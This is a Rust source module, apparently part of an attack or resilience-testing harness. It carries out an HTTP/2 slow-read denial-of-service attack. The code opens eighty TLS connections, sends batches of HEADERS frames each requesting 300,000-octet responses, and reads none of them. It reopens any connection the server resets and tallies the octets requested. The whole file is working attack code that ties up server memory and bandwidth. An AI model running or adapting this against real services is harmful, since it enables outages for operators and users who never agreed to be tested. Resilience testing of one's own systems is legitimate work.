//! A device with a session asks for large answers on eighty connections, allows them all to come at once, and reads none.

use std::io;
use std::time::Duration;

use serde_json::json;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout};
use tokio_rustls::client::TlsStream;

use super::{Assault, Told, ready};
use crate::dial::Dialer;
use crate::frames::{END_HEADERS, END_STREAM, HEADERS, Head, frame, opening};
use crate::wire::{AGAIN, STREAMS};

const CONNECTIONS: usize = 80;
/// Octets of each answer: what one chunk of a backend's may well be.
const ANSWER: u32 = 300_000;
/// One after the other: what comes all at once is refused by the backend, and nothing of it is held.
const BETWEEN: Duration = Duration::from_millis(60);
/// Between two looks whether a connection was ended.
const LOOK: Duration = Duration::from_millis(250);
const STUCK: Duration = Duration::from_secs(5);

pub(super) async fn run(assault: Assault) -> io::Result<Told> {
    let dialer = assault.device()?;
    let head = assault.in_room(&dialer, ("GET", &format!("bytes/{ANSWER}"))).await?;
    let mut holding = JoinSet::new();
    for _ in 0..CONNECTIONS {
        holding.spawn(hold(dialer.clone(), head.clone(), assault.until));
        sleep(BETWEEN).await;
    }
    ready();
    let mut opened = 0;
    while let Some(held) = holding.join_next().await {
        opened += held.unwrap_or_default();
    }
    let told = json!({ "connections": CONNECTIONS, "opened": opened, "octets_asked_for": opened * STREAMS * u64::from(ANSWER) });
    Ok(told.as_object().cloned().unwrap_or_default())
}

/// Holds one connection, and another one when it is ended. Returns how many there were.
async fn hold(dialer: Dialer, head: Head, until: Instant) -> u64 {
    let mut opened = 0;
    while Instant::now() < until {
        let Ok(connection) = asked(&dialer, &head).await else {
            sleep(AGAIN).await;
            continue;
        };
        opened += 1;
        while Instant::now() < until && is_there(&connection) {
            sleep(LOOK).await;
        }
    }
    opened
}

async fn asked(dialer: &Dialer, head: &Head) -> io::Result<TlsStream<TcpStream>> {
    let mut connection = dialer.tight().await?;
    let mut octets = opening();
    for at in 0..u32::try_from(STREAMS).unwrap_or(u32::MAX) {
        let block = if at == 0 { &head.first } else { &head.again };
        frame(&mut octets, (HEADERS, END_HEADERS | END_STREAM), 2 * at + 1, block);
    }
    timeout(STUCK, async {
        connection.write_all(&octets).await?;
        connection.flush().await
    })
    .await??;
    Ok(connection)
}

/// A reset shows without reading.
fn is_there(connection: &TlsStream<TcpStream>) -> bool {
    matches!(connection.get_ref().0.take_error(), Ok(None))
}
